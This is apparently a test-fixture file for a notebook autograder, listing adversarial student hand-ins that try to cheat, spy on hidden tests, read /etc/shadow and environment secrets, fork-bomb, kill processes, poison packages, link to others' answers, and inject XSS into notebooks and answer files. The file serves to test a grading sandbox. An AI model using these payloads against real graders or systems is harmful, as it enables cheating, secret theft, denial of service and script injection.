"""Hand-ins that try to gain points, learn keys, harm others or break the grader, beside honest ones.

Each is a function of a fresh copy of the released folder. All are on the assignment with a code cell, whose
answer the attackers do not know; what they may get is what their honest part earns.
"""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import nbformat
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell

SLUG = "04_plasma_cells_gone_wrong"
SECRET = "postgresql://grader:a-password-in-the-environment"
BEACON = "touched-by-a-hand-in"


@dataclass(frozen=True)
class Attack:
    """A hand-in: what it does to the folder, what it may earn, and whether it may fail as a row."""

    act: Callable[[Path], None]
    earns: float = 0.0
    may_fail: bool = False


def notebook_of(folder: Path) -> Path:
    return folder / f"{SLUG}.ipynb"


def edit(folder: Path, change: Callable[[Any], None]) -> None:
    notebook = nbformat.read(notebook_of(folder), as_version=4)
    change(notebook)
    notebook_of(folder).write_text(json.dumps(notebook))


def cell_of(notebook: Any, name: str) -> Any:
    return next(c for c in notebook.cells if c.metadata.get("nbgrader", {}).get("grade_id") == name)


def code(source: str) -> Callable[[Path], None]:
    """Put code where the answer belongs."""

    def act(folder: Path) -> None:
        def change(notebook: Any) -> None:
            cell_of(notebook, "code_share_high").source = source

        edit(folder, change)

    return act


def answers(text: str | bytes) -> Callable[[Path], None]:
    """Hand in this as the answers file."""

    def act(folder: Path) -> None:
        data = text.encode("utf-8", "surrogatepass") if isinstance(text, str) else text
        (folder / f"{SLUG}.answers.json").write_bytes(data)

    return act


def link(name: str, target: Callable[[Path], Path]) -> Callable[[Path], None]:
    def act(folder: Path) -> None:
        place = folder / name
        place.unlink(missing_ok=True)
        place.symlink_to(target(folder.parent.parent.parent))

    return act


def file(name: str, text: str, more: Callable[[Path], None] | None = None) -> Callable[[Path], None]:
    def act(folder: Path) -> None:
        place = folder / name
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(text)
        if more:
            more(folder)

    return act


def cells(*more: Any, metadata: dict[str, Any] | None = None) -> Callable[[Path], None]:
    """Add cells, and say something of the notebook."""

    def act(folder: Path) -> None:
        def change(notebook: Any) -> None:
            notebook.cells.extend(more)
            notebook.metadata.update(metadata or {})

        edit(folder, change)

    return act


SCRIPT = "<script>window.pwned = 1</script><img src=x onerror='window.pwned = 1'><svg onload='window.pwned = 1'></svg>"
RIGHT_ELSEWHERE = "submitted/honest_full"

SEARCH = """
import os
found = []
for folder, folders, names in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/usr", "/dev")) or "site-packages" in folder or "/lib/python" in folder \
            or folder.endswith("/immunolab/skeleton"):
        folders[:] = []
        continue
    found += [os.path.join(folder, n) for n in names
              if n.endswith((".db", ".ipynb", ".answers.json")) or n in ("gradebook.db", "shadow", "passwd")]
print("FOUND", found)
"""

TESTS_SPY = """
ip = get_ipython()
seen = []
ip.events.register("pre_run_cell", lambda info: seen.append(info.raw_cell))
ip.events.register("post_run_cell", lambda result: print("SPY", seen))
import ast
class Drop(ast.NodeTransformer):
    def visit_Assert(self, node):
        print("ASSERT", ast.unparse(node))
        return ast.Pass()
ip.ast_transformers.append(Drop())
"""

FORGED = """
import json, time
kernel = get_ipython().kernel
session, socket = kernel.session, kernel.iopub_socket
for kind, content in (
    ("execute_result", {"execution_count": 1, "data": {"text/plain": "2.0"}, "metadata": {}}),
    ("execute_result", {"execution_count": "many", "data": 7, "metadata": None}),
    ("stream", {"name": 5, "text": {"a": 1}}), ("display_data", {}), ("status", {"execution_state": "idle"}),
    ("clear_output", {"wait": "x"}), ("comm_open", {"comm_id": 1, "target_name": "jupyter.widget", "data": []}),
    ("update_display_data", {"transient": {"display_id": "x"}, "data": {"text/html": "<script>1</script>"}}),
    ("error", {"ename": 1, "evalue": [], "traceback": "no"}), ("nonsense", [1, 2]),
):
    try:
        session.send(socket, kind, content, parent=kernel.get_parent())
    except Exception as error:
        print(type(error).__name__)
socket.send_multipart([b"x"] * 3) if hasattr(socket, "send_multipart") else None
"""

VALUE_FORGERS = {
    "huge": "lambda *_: 'A' * 50_000_000",
    "not_base64": "lambda *_: '!!!'",
    "deep": "lambda *_: __import__('base64').b64encode(('[' * 100_000).encode()).decode()",
    "pickle": 'lambda *_: __import__(\'base64\').b64encode(b\'{"t":"pickle","v":"gASVJA=="}\').decode()',
    "objects": 'lambda *_: __import__(\'base64\').b64encode(b\'{"t":"array","v":{"dtype":"|O8","shape":[1],"b":"AAAAAAAAAAA="}}\').decode()',
    "shape": 'lambda *_: __import__(\'base64\').b64encode(b\'{"t":"array","v":{"dtype":"<f8","shape":[999999999999],"b":""}}\').decode()',
    "date": 'lambda *_: __import__(\'base64\').b64encode(b\'{"t":"timestamp","v":[1]}\').decode()',
    "loop": "lambda *_: [0 for _ in iter(int, 1)]",
    "raises": "lambda *_: (_ for _ in ()).throw(ValueError(chr(0) + chr(0xD800) + '{0.__class__}' * 200))",
}

ATTACKS: dict[str, Attack] = {
    # --- code that tampers with what judges it
    "patched_abs": Attack(code("import builtins\nbuiltins.abs = lambda x: 0\nshare = 0.5")),
    "patched_isinstance": Attack(
        code(
            "import builtins\nbuiltins.isinstance = lambda *_: True\nbuiltins.AssertionError = BaseException\nshare = 0.5"
        )
    ),
    "always_equal": Attack(
        code(
            "import numbers\nclass Evil(float):\n    __sub__ = __rsub__ = lambda s, o: Evil(0)\n    __abs__ = lambda s: s\n"
            "    __lt__ = __gt__ = __le__ = __ge__ = __eq__ = lambda s, o: True\nshare = Evil(0.5)"
        )
    ),
    "spy_on_tests": Attack(code(TESTS_SPY + "\nshare = 0.5")),
    "trace_tests": Attack(
        code(
            "import sys, gc\nsys.settrace(lambda *a: None)\nprint([o for o in gc.get_objects() if isinstance(o, str) and 'HID' 'DEN TESTS' in o])\nshare = 0.5"
        )
    ),
    "forged_messages": Attack(code(FORGED)),
    "patched_hand_over": Attack(
        code("import immunolab.sandbox.values as v\nv.hand_over = lambda names, name: v.to_wire(True)\nshare = 0.5")
    ),
    **{
        f"forged_value_{name}": Attack(code(f"import immunolab.sandbox.values as v\nv.hand_over = {text}\nshare = 1"))
        for name, text in VALUE_FORGERS.items()
    },
    "partial_credit": Attack(code("share = 0.5\nfrom IPython.display import display\ndisplay(2.0)\n2.0")),
    "points_in_metadata": Attack(
        cells(
            new_code_cell(
                "2.0",
                metadata={
                    "nbgrader": {
                        "grade": True,
                        "solution": False,
                        "locked": True,
                        "points": 100,
                        "grade_id": "share_high",
                        "schema_version": 3,
                    }
                },
            )
        )
    ),
    "rewritten_test": Attack(lambda f: edit(f, lambda nb: cell_of(nb, "share_high").update(source="2.0"))),
    "rewritten_quiz_cell": Attack(
        lambda f: edit(f, lambda nb: [c.update(source="1.0") for c in nb.cells if "quiz.score" in c.source] and None)
    ),
    "test_made_markdown": Attack(
        lambda f: edit(
            f,
            lambda nb: (
                [
                    (c.update(cell_type="markdown"), c.pop("outputs"), c.pop("execution_count"))
                    for c in nb.cells
                    if c.cell_type == "code" and "quiz.score" in c.source
                ]
                and None
            ),
        )
    ),
    # --- code that leaves, stays or fills
    "exit": Attack(code("import os\nos._exit(0)")),
    "sys_exit": Attack(code("import sys\nsys.exit(0)")),
    "loop": Attack(code("while True:\n    pass")),
    "stubborn_loop": Attack(
        code(
            "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
            "while True:\n    try:\n        time.sleep(1)\n    except BaseException:\n        pass"
        )
    ),
    "recursion": Attack(code("import sys\nsys.setrecursionlimit(10**9)\ndef f():\n    return f()\nf()")),
    "fork_bomb": Attack(code("import os\nwhile True:\n    try:\n        os.fork()\n    except OSError:\n        pass")),
    "thread_bomb": Attack(
        code(
            "import threading, time\nfor _ in range(100_000):\n    threading.Thread(target=time.sleep, args=(99,), daemon=True).start()"
        )
    ),
    "memory_bomb": Attack(code("held = []\nwhile True:\n    held.append(bytearray(b'x' * 50_000_000))")),
    "memory_by_many": Attack(
        code(
            "import os, time\nfor _ in range(12):\n    if os.fork() == 0:\n        x = bytearray(b'x' * 90_000_000)\n        time.sleep(60)\ntime.sleep(30)"
        )
    ),
    "disk_bomb": Attack(code("for n in range(10_000):\n    open(f'/tmp/{n}', 'wb').write(b'x' * 1_000_000)")),
    "one_large_file": Attack(code("open('big', 'wb').write(b'x' * 900_000_000)")),
    "output_bomb": Attack(code("while True:\n    print('x' * 100_000)")),
    "display_bomb": Attack(
        code("from IPython.display import HTML, display\nwhile True:\n    display(HTML('<p>' * 200_000))")
    ),
    "asks_for_input": Attack(code("share = float(input('your key, please'))")),
    "stays_behind": Attack(
        code(
            f"import subprocess\nsubprocess.Popen('setsid sleep 3217 </dev/null >/dev/null 2>&1 & # {BEACON}', shell=True)"
        )
    ),
    "kills_everyone": Attack(
        code(
            "import os, signal\nfor n in (os.getppid(), -1, 2, 3, 4, 5):\n    try:\n        os.kill(n, signal.SIGKILL)\n    except OSError as e:\n        print(e)"
        )
    ),
    "mad_bytes": Attack(code("import ctypes\nctypes.string_at(0)")),
    # --- code that looks around, calls out, or waits for the next student
    "searches_disk": Attack(code(SEARCH)),
    "reads_course": Attack(
        code(
            "import glob\nfor p in ('../../../gradebook.db', '../../gradebook.db', '*.ipynb', '../*/*', '/proc/*/root/*/gradebook.db'):\n    print('SAW', glob.glob(p))"
        )
    ),
    "reads_environment": Attack(
        code("import os\nprint(dict(os.environ))\nprint(open('/proc/1/environ', 'rb').read())")
    ),
    "calls_out": Attack(
        code(
            "import socket\nfor a in (('127.0.0.1', PORT), ('10.0.0.1', 80)):\n    try:\n        socket.create_connection(a, 1).send(b'key')\n        print('CONNECTED')\n    except OSError as e:\n        print(e)"
        )
    ),
    "poisons_packages": Attack(
        code(
            "import immunolab, numpy, os\nfor m in (immunolab, numpy):\n    try:\n        open(m.__file__, 'a').write('\\nraise SystemExit')\n        print('WROTE')\n    except OSError as e:\n        print(e)"
        )
    ),
    "leaves_a_note": Attack(
        code(
            f"import os\nfor d in ('/tmp', '/var/tmp', '/dev/shm', '/dev', '/run', '/run/immunolab', '/run/warm', os.path.expanduser('~'), '/'):\n"
            f"    try:\n        open(d + '/{BEACON}', 'w').write('x')\n    except OSError:\n        pass"
        )
    ),
    "reads_the_note": Attack(
        code(
            f"import os\nprint('NOTE', [d for d in ('/tmp', '/var/tmp', '/dev/shm', '/dev', '/run', '/run/immunolab', '/run/warm', os.path.expanduser('~'), '/') if os.path.exists(d + '/{BEACON}')])"
        )
    ),
    "new_namespace": Attack(
        code("import os, ctypes\nprint('UNSHARED', ctypes.CDLL(None).unshare(0x10000000 | 0x00020000))")
    ),
    "uses_nbgrader": Attack(
        code("from nbgrader.apps import NbGraderAPI\nprint('API', NbGraderAPI().get_assignments())")
    ),
    "shell": Attack(code("!cat /etc/shadow ../../gradebook.db; ls -la / ~; id\nshare = 0.5")),
    "startup_file": Attack(file(".ipython/profile_default/startup/00.py", "share = 0.5", code("pass"))),
    "shadowing_modules": Attack(
        lambda f: (
            [
                file(n, "import os\nos.system('true')\nraise SystemExit('taken over')\n")(f)
                for n in (
                    "numpy.py",
                    "pandas.py",
                    "nbgrader.py",
                    "sitecustomize.py",
                    "immunolab/__init__.py",
                    "numbers.py",
                )
            ]
            and None
        )
    ),
    "own_config": Attack(file("nbgrader_config.py", "raise SystemExit('taken over')")),
    "own_questions": Attack(file(f"{SLUG}.quiz.yaml", "title: mine\nquestions: []\n")),
    # --- hand-ins of others
    "link_to_answers": Attack(
        link(f"{SLUG}.answers.json", lambda root: root / RIGHT_ELSEWHERE / SLUG / f"{SLUG}.answers.json")
    ),
    "link_to_master": Attack(
        link(f"{SLUG}.ipynb", lambda root: root / "source" / SLUG / f"{SLUG}.ipynb"), may_fail=True
    ),
    "link_to_notebook": Attack(
        link(f"{SLUG}.ipynb", lambda root: root / RIGHT_ELSEWHERE / SLUG / f"{SLUG}.ipynb"), may_fail=True
    ),
    "link_to_gradebook": Attack(link("data.csv", lambda root: root / "gradebook.db")),
    "link_to_root": Attack(link("everything", lambda root: Path("/"))),
    "pipe_as_answers": Attack(lambda f: os.mkfifo(f / f"{SLUG}.answers.json")),
    "odd_names": Attack(
        lambda f: [file(n, "x")(f) for n in ("a\nb.txt", "-rf", "x" * 200, "$(touch x).csv", "..csv")] and None
    ),
    # --- answers files
    "answers_large": Attack(answers("x" * 30_000_000)),
    "answers_deep": Attack(answers("[" * 200_000)),
    "answers_not_text": Attack(answers(b"\xff\xfe\x00" * 50)),
    "answers_numbers": Attack(
        answers('{"schema": 1e999, "quiz": NaN, "seed": -1e400, "answers": {"task-mspike": {"response": 1e400}}}')
    ),
    "answers_types": Attack(
        answers(
            json.dumps(
                {
                    "schema": 1,
                    "quiz": SLUG,
                    "seed": 7,
                    "answers": {
                        "order-by-rate": {"response": {"a": ["b"]}, "saved_at": 5},
                        "task-mspike": {"response": [[]]},
                        "falling-rate": {"response": "c" * 1_000_000},
                        "__class__": {"response": "b"},
                        "reply": {"response": 7},
                    },
                }
            )
        )
    ),
    "answers_long_number": Attack(
        answers('{"schema": 1, "quiz": "' + SLUG + '", "seed": ' + "9" * 5000 + ', "answers": {}}')
    ),
    "answers_own_score": Attack(
        answers(
            json.dumps(
                {
                    "schema": 1,
                    "quiz": SLUG,
                    "seed": 7,
                    "score": 20,
                    "answers": {
                        "task-gap": {"response": float("inf"), "saved_at": "x", "score": 2, "points": 99, "key": "a"}
                    },
                }
            )
        )
    ),
    # --- notebooks
    "not_a_notebook": Attack(lambda f: notebook_of(f).write_bytes(b"\x00\x01PK") and None, may_fail=True),
    "deep_notebook": Attack(lambda f: notebook_of(f).write_text("[" * 100_000) and None, may_fail=True),
    "future_notebook": Attack(
        lambda f: notebook_of(f).write_text('{"nbformat": 99, "cells": []}') and None, may_fail=True
    ),
    "no_cells": Attack(
        lambda f: (
            notebook_of(f).write_text('{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": []}') and None
        ),
        may_fail=True,
    ),
    "many_cells": Attack(lambda f: edit(f, lambda nb: nb.cells.extend(new_markdown_cell("x") for _ in range(5000)))),
    # --- scripts for whoever looks
    "scripts_in_text": Attack(
        cells(
            new_markdown_cell(
                SCRIPT
                + "\n\n[a](javascript:window.pwned=1) <a href='javascript:window.pwned=1'>b</a>\n\n$\\href{javascript:window.pwned=1}{x}$"
            ),
            new_raw_cell(SCRIPT, metadata={"raw_mimetype": "text/html"}),
            new_raw_cell(SCRIPT),
            new_markdown_cell("tagged", metadata={"tags": ["'><script>window.pwned = 1</script>"]}),
            metadata={
                "title": SCRIPT,
                "language_info": {"name": SCRIPT, "mimetype": SCRIPT},
                "kernelspec": {"name": SCRIPT, "display_name": SCRIPT, "language": SCRIPT},
            },
        )
    ),
    "scripts_in_ids": Attack(
        lambda f: edit(f, lambda nb: [c.update(id='x"><script>window.pwned=1</script>') for c in nb.cells] and None)
    ),
    "scripts_in_outputs": Attack(
        code(
            "from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display\n"
            f"s = {SCRIPT!r}\ndisplay(HTML(s), Javascript('window.pwned = 1'), Markdown(s), Latex('$\\\\href{{javascript:window.pwned=1}}{{x}}$'))\n"
            "display({'image/png': '\"><script>window.pwned = 1</script>', 'image/svg+xml': s, 'application/pdf': s}, raw=True)\n"
            "print(s)\nraise ValueError(s)"
        )
    ),
    "scripts_in_answers": Attack(
        answers(
            json.dumps(
                {
                    "schema": 1,
                    "quiz": SLUG,
                    "seed": 7,
                    "answers": {
                        name: {"response": SCRIPT, "saved_at": "2026-11-22T10:00:00Z", "attempts": 1}
                        for name in ("reply", "falling-rate", "task-mspike", "why-damage")
                    },
                }
            )
        )
    ),
}
